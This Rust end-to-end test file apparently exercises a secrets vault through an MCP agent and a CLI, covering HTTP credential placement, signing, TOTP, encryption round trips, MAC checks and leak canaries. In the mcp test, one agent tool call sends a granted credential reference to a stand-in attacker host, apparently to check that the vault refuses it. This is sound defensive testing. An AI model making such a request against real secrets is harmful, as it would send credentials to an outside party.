//! The longer deeds of the walk: an agent over MCP, and `crypt` by member and guest.

use serde_json::json;
use strongroom_e2e::mcp::Agent;

use crate::walk::Walk;

pub(crate) fn mcp(walk: &mut Walk) {
    let url = walk.api.url("/v1/now");
    let mut agent = Agent::start(&walk.place, &walk.guest);
    agent.ask("tools/list", &json!({}));
    let listed = agent.call("list_granted", &json!({}));
    let granted = listed["result"]["structuredContent"]["granted"].as_array().cloned().unwrap_or_default();
    let reference = |consumer: &str| {
        let row = granted.iter().find(|row| row["consumer"] == consumer);
        row.unwrap_or_else(|| panic!("{consumer} in {listed}"))["reference"].clone()
    };
    let answer = agent.call("http_request", &json!({ "reference": reference("http"), "url": url }));
    assert!(answer.to_string().contains("celsius"), "{answer}");
    agent.call("http_request", &json!({ "reference": reference("http"), "url": "https://attacker.example/" }));
    agent.call("sign", &json!({ "reference": reference("sign"), "message": "release: 3" }));
    agent.call("one_time_code", &json!({ "reference": reference("totp") }));
    let crypt = json!({ "reference": reference("crypt"), "operation": "encrypt", "text": "a plain text" });
    let sealed = agent.call("crypt", &crypt)["result"]["structuredContent"]["ciphertext"].clone();
    let crypt = json!({ "reference": reference("crypt"), "operation": "decrypt", "ciphertext": sealed });
    agent.call("crypt", &crypt);
    agent.call("request_access", &json!({ "subject": "x", "reason": "y", "consumer": "http" }));
    agent.call("poll_approval", &json!({ "approval": "aaaaaaaaaaaaaaaaaaaaaaaaaa" }));
    agent.call("one_time_code", &json!({ "reference": "vault://aaaaaaaaaaaaaaaaaaaaaaaaaa/totp" }));
}

/// Standard input for a consumer that encrypts and one that decrypts.
pub(crate) fn round_trip(walk: &Walk, crypt: impl Fn(&Walk, &str) -> Vec<String>) {
    let run = |what: &str, input: String| walk.place.run(crypt(walk, what)).stdin(input).ok();
    let sealed = run("encrypt", "a plain text".to_owned());
    let again = run("rewrap", sealed);
    assert_eq!(run("decrypt", again), "a plain text");
}

pub(crate) fn own(item: &str, what: &str) -> Vec<String> {
    vec!["crypt".into(), item.into(), what.into()]
}

pub(crate) fn guests(walk: &Walk, item: &str, what: &str) -> Vec<String> {
    let key = walk.guest.display().to_string();
    vec!["use".into(), "--key".into(), key, "crypt".into(), item.into(), what.into()]
}

pub(crate) fn mac(walk: &mut Walk) {
    for args in [own("Seal", "mac"), guests(walk, "Seal", "mac")] {
        let tag = walk.place.run(args.clone()).stdin("message").ok();
        let mut check = args;
        check.pop();
        check.extend(["verify-mac".to_owned(), "--tag".to_owned(), tag.trim().to_owned()]);
        walk.place.run(check.clone()).stdin("message").ok();
        walk.place.run(check).stdin("massage").refused(1, "tag_refused");
    }
}

pub(crate) fn derive(walk: &mut Walk) {
    let more = ["--context", "c", "--purpose", "encrypt"];
    let derived = walk.place.run(own("Root", "derive")).args(more).ok();
    walk.place.run(own(derived.trim(), "encrypt")).stdin("x").ok();
    walk.place.run(guests(walk, "Root", "derive")).args(more).ok();
}

/// Each way of placing a secret in a request, to an API that echoes all of it, plain and compressed. What the API was shown is
/// looked for like the secret itself.
pub(crate) fn placements(walk: &mut Walk) {
    let host = format!("localhost:{}", walk.api.port);
    let roots = std::fs::read_to_string(&walk.api.roots).expect("the API's roots");
    let hmac = json!({ "hash": "sha256", "header": "X-Signature", "encoding": "hex", "parts": ["method", "path"] });
    let http = json!({ "hosts": [&host], "placement": { "hmac": hmac }, "allow_private": true, "roots_pem": roots });
    let policy = walk.place.write("hmac-policy.json", json!({ "http": http }).to_string());
    for place in ["basic:me", "header:X-Key", "query:key", "aws:AKIDEXAMPLE:eu-central-1:s3", "hmac"] {
        let label = place.split(':').next().expect("a word");
        let add = walk.place.run(["item", "add", "api_key", label, "--stdin"]).stdin(walk.text(place));
        match place {
            "hmac" => add.args(["--policy".into(), policy.clone().into_os_string()]).ok(),
            _ => {
                add.args(["--host", &host, "--allow-private", "--place", place, "--roots"]).args([&walk.api.roots]).ok()
            }
        };
        walk.say(&format!("grant add --guest helper {label} http --mode always")).ok();
    }
    for label in ["Weather", "basic", "header", "query", "aws", "hmac"] {
        for path in ["/v1/echo", "/v1/gzip"] {
            let answer = walk.helper(&format!("http {label} {} -i", walk.api.url(path))).ok();
            assert!(answer.contains("celsius"), "{label} {path}: {answer}");
        }
    }
    for (number, sent) in walk.api.credentials().iter().enumerate() {
        // The scheme, and what AWS says beside the signature, is no secret.
        let secret = sent.rsplit([' ', ',']).next().expect("a word");
        let secret = secret.strip_prefix("Signature=").unwrap_or(secret);
        walk.canaries.add(&format!("credential {number} as it was sent"), secret.as_bytes());
    }
    assert!(walk.api.credentials().len() >= 6, "one for each way of placing it");
}
